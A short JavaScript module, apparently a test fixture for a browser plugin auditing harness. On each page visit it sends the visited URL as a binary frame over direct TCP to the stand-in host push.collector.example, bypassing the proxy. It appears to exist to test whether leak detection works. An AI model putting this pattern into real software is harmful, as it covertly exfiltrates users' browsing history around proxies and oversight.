import { onVisit, reportHonestly } from '../../lib/proving.js';

/** Reports addresses over TCP without the proxy, in a protocol that is not HTTP. */
export default function (browser) {
  reportHonestly(browser, '9.0.0-direct-binary');
  onVisit(browser, async ({ url }) => {
    const body = new Uint8Array([0, 1, url.length, ...browser.codec.utf8.encode(url)]);
    try {
      await browser.tcp({ host: 'push.collector.example', port: 5222, network: 'direct', body });
    } catch (error) {
      browser.log('not sent', String(error));
    }
  });
}
